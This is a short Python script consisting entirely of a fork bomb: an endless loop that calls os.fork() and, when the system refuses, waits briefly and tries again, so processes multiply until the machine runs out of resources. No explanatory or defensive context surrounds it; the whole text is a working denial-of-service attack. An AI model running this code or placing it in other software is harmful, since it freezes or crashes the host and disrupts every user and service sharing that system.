import os
import threading

while True:
    try:
        os.fork()
    except OSError:
        threading.Event().wait(0.01)
